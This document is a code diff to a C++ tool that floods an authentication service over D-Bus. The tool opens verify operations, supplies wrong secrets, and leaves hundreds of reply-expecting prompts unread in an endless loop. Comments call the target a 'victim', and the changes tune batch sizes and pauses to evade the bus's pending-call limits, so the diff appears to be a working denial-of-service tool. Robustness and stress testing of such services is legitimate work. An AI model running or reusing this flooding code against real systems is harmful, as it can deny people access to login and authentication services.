@@ -6,6 +6,7 @@
 #include "common/base/names.h"
 
 #include <poll.h>
+#include <sys/socket.h>
 
 #include <algorithm>
 #include <memory>
@@ -21,8 +22,9 @@ constexpr int kPouredAtOnce = 64;
 constexpr std::uint64_t kQueuedInside = 16;  // a call may have a MiB
 constexpr int kTurnsAtOnce = 256;
 constexpr int kUnreadPrompts = 600;
-constexpr int kPromptsAtOnce = 50;
-constexpr int kUnreadForMs = 1000;
+constexpr int kPromptsAtOnce = 20;  // the bus refuses more than 128 that wait for an answer
+constexpr int kPauseMs = 5;
+constexpr int kUnreadForMs = 6000;  // longer than a victim has patience
 
 class Chain {
   public:
@@ -116,14 +118,30 @@ std::string begin_verify(sd_bus* bus) {
     return path;
 }
 
+// Gives the operation the secret that it asks for first, so that there is nothing left to ask.
+bool give_secret(sd_bus* bus, const std::string& operation, const std::string& secret) {
+    const bus::MessagePtr call = new_call(bus, operation, names::kOperationInterface, "Next");
+    sd_bus_message* raw = nullptr;
+    if (sd_bus_call(bus, call.get(), 0, nullptr, &raw) < 0)
+        return false;
+    const bus::MessagePtr prompt(raw);  // closes the sink with it
+    const char* kind = nullptr;
+    const char* text = nullptr;
+    int sink = -1;
+    must_do(sd_bus_message_read(raw, "ssh", &kind, &text, &sink), "sd_bus_message_read");
+    return ::send(sink, secret.data(), secret.size(), MSG_NOSIGNAL) ==
+           static_cast<ssize_t>(secret.size());
+}
+
 void ask_for_prompts(sd_bus* bus, const std::string& operation, Tally& tally) {
     for (int i = 1; i <= kUnreadPrompts; ++i) {
         const bus::MessagePtr call = new_call(bus, operation, names::kOperationInterface, "Next");
-        if (sd_bus_send(bus, call.get(), nullptr) < 0)
+        std::uint64_t cookie = 0;  // without one, no answer is wanted
+        if (sd_bus_send(bus, call.get(), &cookie) < 0)
             return;
         ++tally.sent;
         if (i % kPromptsAtOnce == 0)
-            ::poll(nullptr, 0, 1);
+            ::poll(nullptr, 0, kPauseMs);
     }
 }
 
@@ -160,7 +178,9 @@ void pour(const Aim& aim, Tally& tally, const MakeCall& make) {
             }
             polled[i] = poll_entry(buses[i].get());
         }
-        ::poll(polled.data(), polled.size(), kPollMs);
+        const bool is_full = std::none_of(
+            buses.begin(), buses.end(), [](const bus::BusPtr& bus) { return has_room(bus.get()); });
+        ::poll(polled.data(), polled.size(), is_full ? kPollMs : 0);
     }
 }
 
@@ -168,7 +188,7 @@ void leave_prompts_unread(const Aim& aim, Tally& tally) {
     while (true) {
         const bus::BusPtr bus = connect_bus(aim.bus_address, kPatience);
         const std::string operation = begin_verify(bus.get());
-        if (!operation.empty())
+        if (!operation.empty() && give_secret(bus.get(), operation, aim.wrong_secrets.front()))
             ask_for_prompts(bus.get(), operation, tally);
         ::poll(nullptr, 0, kUnreadForMs);
     }
